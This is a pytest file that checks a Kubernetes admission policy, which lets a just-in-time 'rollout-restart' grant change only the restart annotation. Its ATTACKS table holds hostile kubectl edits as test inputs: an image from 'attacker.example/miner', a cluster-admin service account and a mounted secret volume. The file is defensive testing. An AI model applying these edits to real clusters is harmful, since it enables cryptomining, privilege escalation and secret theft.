"""The ValidatingAdmissionPolicy that makes `rollout-restart` mean rollout restart.

RBAC's `patch deployments` would let the holder change the image, the service account or the
volumes. The policy `eks-jit rbac render` writes refuses any UPDATE from the scope's groups that
changes anything but the restart annotation. Its CEL is evaluated here offline, with Google's
CEL runtime (cel-expr-python), against the objects real kubectl produces: the PATCH that
`kubectl rollout restart` sends (recorded against a stub API server) and the edits an attacker
would make with `kubectl set image`, `scale`, `set serviceaccount`, `patch`, `label`,
`annotate` (each applied by kubectl itself with `--local`). What this cannot check is written
in docs/decisions.md ("Checking the admission policy offline").
"""

from __future__ import annotations

import copy
import json
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest

from eks_jit import admission, rbac
from eks_jit.server.config import load_catalog
from tests import kube_stub
from tests.support import EXAMPLE_CONFIG

DEPLOYMENT_PATH = "/apis/apps/v1/namespaces/payments/deployments/payments-api"
# Timestamps inside the stored object are opaque data to the policy (nothing compares them with a
# clock); fixed so the test is the same every run.
CREATED = datetime(2026, 1, 5, 9, tzinfo=UTC).strftime("%Y-%m-%dT%H:%M:%SZ")
LAST_RESTART = datetime(2026, 1, 4, 3, 12, tzinfo=UTC).strftime("%Y-%m-%dT%H:%M:%SZ")
NEXT_RESTART = datetime(2026, 2, 1, tzinfo=UTC).strftime("%Y-%m-%dT%H:%M:%SZ")
RESTART_ANNOTATION = "kubectl.kubernetes.io/restartedAt"
DEPLOYMENT: dict[str, Any] = {
    "apiVersion": "apps/v1",
    "kind": "Deployment",
    "metadata": {
        "name": "payments-api",
        "namespace": "payments",
        "uid": "6f1c2a9e-0d7b-4a55-9b1e-3c1f0e2d4b11",
        "resourceVersion": "918273",
        "generation": 7,
        "creationTimestamp": CREATED,
        "labels": {"app": "payments-api", "team": "payments"},
        "annotations": {"deployment.kubernetes.io/revision": "7"},
        "managedFields": [
            {
                "manager": "argocd-controller",
                "operation": "Apply",
                "apiVersion": "apps/v1",
                "time": CREATED,
                "fieldsType": "FieldsV1",
                "fieldsV1": {"f:spec": {"f:replicas": {}}},
            }
        ],
    },
    "spec": {
        "replicas": 3,
        "revisionHistoryLimit": 10,
        "selector": {"matchLabels": {"app": "payments-api"}},
        "strategy": {"type": "RollingUpdate", "rollingUpdate": {"maxSurge": "25%", "maxUnavailable": "25%"}},
        "template": {
            "metadata": {
                "labels": {"app": "payments-api"},
                "annotations": {"prometheus.io/scrape": "true", RESTART_ANNOTATION: LAST_RESTART},
            },
            "spec": {
                "serviceAccountName": "payments-api",
                "containers": [
                    {
                        "name": "app",
                        "image": "123456789012.dkr.ecr.eu-west-1.amazonaws.com/payments:1.4.2",
                        "ports": [{"containerPort": 8080}],
                        "readinessProbe": {"httpGet": {"path": "/ready", "port": 8080}},
                    }
                ],
            },
        },
    },
    "status": {"replicas": 3, "readyReplicas": 2},
}
GROUP = "eks-jit:rollout-restart:payments"


# -- evaluating the rendered policy ----------------------------------------------------------


def _escaped(value: Any) -> Any:
    """Data as Kubernetes CEL sees it: properties named like CEL keywords are __<word>__."""
    if isinstance(value, dict):
        return {admission.cel_name(k) if k in admission._CEL_RESERVED else k: _escaped(v) for k, v in value.items()}
    if isinstance(value, list):
        return [_escaped(v) for v in value]
    return value


class Policy:
    """One rendered ValidatingAdmissionPolicy, compiled with the CEL runtime."""

    def __init__(self, obj: dict[str, Any]) -> None:
        from cel_expr_python import cel
        from cel_expr_python.ext import ext_optional

        self.obj = obj
        env = cel.NewEnv(
            variables={"object": cel.Type.DYN, "oldObject": cel.Type.DYN, "request": cel.Type.DYN},
            extensions=[ext_optional.ExtOptional()],
        )
        spec = obj["spec"]
        self.conditions = [env.compile(c["expression"]) for c in spec["matchConditions"]]
        self.validations = [(env.compile(v["expression"]), v["message"]) for v in spec["validations"]]

    def matches(self, groups: list[str] | None) -> bool:
        user: dict[str, Any] = {"username": "arn:aws:sts::111122223333:assumed-role/oncall-agent/i-1"}
        if groups is not None:
            user["groups"] = groups
        data = {"request": {"userInfo": user, "operation": "UPDATE"}}
        return all(c.eval(data=data).value() is True for c in self.conditions)

    def refusals(self, old: dict[str, Any], new: dict[str, Any]) -> list[str]:
        """The messages of every validation that fails (empty: the update is admitted)."""
        data = {"object": _escaped(new), "oldObject": _escaped(old), "request": {}}
        return [message for check, message in self.validations if check.eval(data=data).value() is not True]


@pytest.fixture(scope="module")
def policy() -> Policy:
    catalog = load_catalog(EXAMPLE_CONFIG)
    objects = admission.manifests(catalog, "prod-eks", rbac.KUBERNETES_VERSION)
    rbac.validate(objects)  # strict schema validation, as `rbac render` does
    (vap,) = [o for o in objects if o["kind"] == "ValidatingAdmissionPolicy"]
    assert vap["metadata"]["name"] == "eks-jit-rollout-restart-deployments"
    return Policy(vap)


def as_the_api_server_stores(old: dict[str, Any], patched: dict[str, Any], manager: str) -> dict[str, Any]:
    """What admission sees as ``object`` after a PATCH: the patched object with the fields the
    API server itself changes (generation when the spec changed, the manager's managedFields);
    resourceVersion stays the old one until the write."""
    new = copy.deepcopy(patched)
    if new["spec"] != old["spec"]:
        new["metadata"]["generation"] = old["metadata"]["generation"] + 1
    new["metadata"]["managedFields"] = [
        *old["metadata"]["managedFields"],
        {"manager": manager, "operation": "Update", "apiVersion": "apps/v1", "fieldsType": "FieldsV1"},
    ]
    return new


def local_edit(tmp_path: Path, *args: str) -> dict[str, Any]:
    """Let kubectl itself apply an edit to the stored object (``--local``: no server)."""
    source = tmp_path / "deployment.json"
    source.write_text(json.dumps(DEPLOYMENT))
    out = kube_stub.run_kubectl(*args, "--local", "-f", str(source), "-o", "json")
    return as_the_api_server_stores(DEPLOYMENT, json.loads(out), "kubectl")


# -- the restart is admitted -----------------------------------------------------------------


def test_kubectl_rollout_restart_sends_one_patch_and_the_policy_admits_it(policy: Policy, tmp_path: Path) -> None:
    with kube_stub.serve({DEPLOYMENT_PATH: DEPLOYMENT}) as stub:
        config = stub.kubeconfig(tmp_path, namespace="payments")
        out = kube_stub.run_kubectl("rollout", "restart", "deployment/payments-api", kubeconfig=config)
    assert "restarted" in out
    (patch,) = stub.writes
    assert patch.method == "PATCH" and patch.content_type == "application/strategic-merge-patch+json"
    restarted_at = patch.body["spec"]["template"]["metadata"]["annotations"][RESTART_ANNOTATION]
    assert patch.body == {"spec": {"template": {"metadata": {"annotations": {RESTART_ANNOTATION: restarted_at}}}}}

    # the server applies the strategic-merge patch (kubectl's own implementation, --local)
    patched = local_edit(tmp_path, "patch", "--type", "strategic", "-p", json.dumps(patch.body))
    assert patched["spec"]["template"]["metadata"]["annotations"][RESTART_ANNOTATION] == restarted_at
    assert patched["metadata"]["generation"] == DEPLOYMENT["metadata"]["generation"] + 1
    assert policy.matches([GROUP, "system:authenticated"])
    assert policy.refusals(DEPLOYMENT, patched) == []


def test_the_first_restart_adds_the_annotation_to_a_template_without_annotations(policy: Policy) -> None:
    old = copy.deepcopy(DEPLOYMENT)
    del old["spec"]["template"]["metadata"]["annotations"]
    new = copy.deepcopy(old)
    new["spec"]["template"]["metadata"]["annotations"] = {RESTART_ANNOTATION: NEXT_RESTART}
    assert policy.refusals(old, as_the_api_server_stores(old, new, "kubectl-rollout")) == []


# -- everything else is refused --------------------------------------------------------------

SECRET_VOLUME = {"name": "s", "secret": {"secretName": "db"}}


def merge(patch: dict[str, Any]) -> list[str]:
    return ["patch", "--type", "merge", "-p", json.dumps(patch)]


ATTACKS = {
    "another image": (["set", "image", "app=attacker.example/miner:1"], "spec.template.spec"),
    # `kubectl scale` PATCHes deployments/scale, a subresource the Role does not grant; the same
    # change through the deployment itself:
    "more replicas": (merge({"spec": {"replicas": 30}}), "spec.replicas"),
    "another service account": (["set", "serviceaccount", "cluster-admin-sa"], "spec.template.spec"),
    "a new volume": (
        [
            "patch",
            "--type",
            "json",
            "-p",
            json.dumps([{"op": "add", "path": "/spec/template/spec/volumes", "value": [SECRET_VOLUME]}]),
        ],
        "spec.template.spec",
    ),
    "another template annotation": (
        merge({"spec": {"template": {"metadata": {"annotations": {"sidecar.istio.io/inject": "false"}}}}}),
        "spec.template.metadata.annotations",
    ),
    "dropping a template annotation": (
        merge({"spec": {"template": {"metadata": {"annotations": {"prometheus.io/scrape": None}}}}}),
        "spec.template.metadata.annotations",
    ),
    "a template label": (
        merge({"spec": {"template": {"metadata": {"labels": {"app": "other"}}}}}),
        "spec.template.metadata.labels",
    ),
    "a deployment annotation": (["annotate", "owner=attacker"], "metadata.annotations"),
    "a deployment label": (["label", "--overwrite", "team=attacker"], "metadata.labels"),
    "the restart plus an image": (
        [
            "patch",
            "--type",
            "strategic",
            "-p",
            json.dumps(
                {
                    "spec": {
                        "template": {
                            "metadata": {"annotations": {RESTART_ANNOTATION: NEXT_RESTART}},
                            "spec": {"containers": [{"name": "app", "image": "attacker.example/miner:1"}]},
                        }
                    }
                }
            ),
        ],
        "spec.template.spec",
    ),
}


@pytest.mark.parametrize("attack", sorted(ATTACKS))
def test_any_other_change_is_refused_and_names_the_field(policy: Policy, tmp_path: Path, attack: str) -> None:
    args, field = ATTACKS[attack]
    edited = local_edit(tmp_path, *args)
    assert edited != DEPLOYMENT
    refusals = policy.refusals(DEPLOYMENT, edited)
    assert refusals, f"{attack} was admitted"
    assert any(f"may not change {field} " in r or f"of {field} " in r for r in refusals), refusals


def test_the_policy_applies_only_to_the_scopes_groups(policy: Policy) -> None:
    assert policy.matches(["eks-jit:rollout-restart:orders"])
    assert not policy.matches(["eks-jit:edit:payments", "system:authenticated"])
    assert not policy.matches(["eks-jit:rollout-restart-extra:payments"])
    assert not policy.matches(None)  # a user with no groups at all: no match, not an error


# -- rendering ----------------------------------------------------------------------------------


def test_reserved_words_are_escaped_as_kubernetes_cel_spells_them() -> None:
    assert admission.cel_name("namespace") == "__namespace__"
    assert admission.cel_name("x-y.z/w__v") == "x__dash__y__dot__z__slash__w__underscores__v"
    assert admission.cel_name("replicas") == "replicas"


@pytest.mark.parametrize(
    ("path", "error"),
    [
        ("spec.template.metdata.annotations", "has no field spec.template.metdata"),
        ("spec.template.spec.containers.image", "cannot go inside spec.template.spec.containers"),
    ],
)
def test_a_path_the_schema_does_not_have_fails_at_render(path: str, error: str) -> None:
    schema = admission.Schema.for_version(rbac.KUBERNETES_VERSION)
    what, definition = schema.resource("apps", "deployments")
    from eks_jit.server.domain.catalog import parse_field_path

    with pytest.raises(admission.AdmissionRenderError, match=error):
        admission.validations(schema, definition, (parse_field_path(path),), what)


def test_an_unknown_resource_fails_at_render() -> None:
    schema = admission.Schema.for_version(rbac.KUBERNETES_VERSION)
    with pytest.raises(admission.AdmissionRenderError, match="no Kubernetes schema for resource 'widgets'"):
        schema.resource("apps", "widgets")
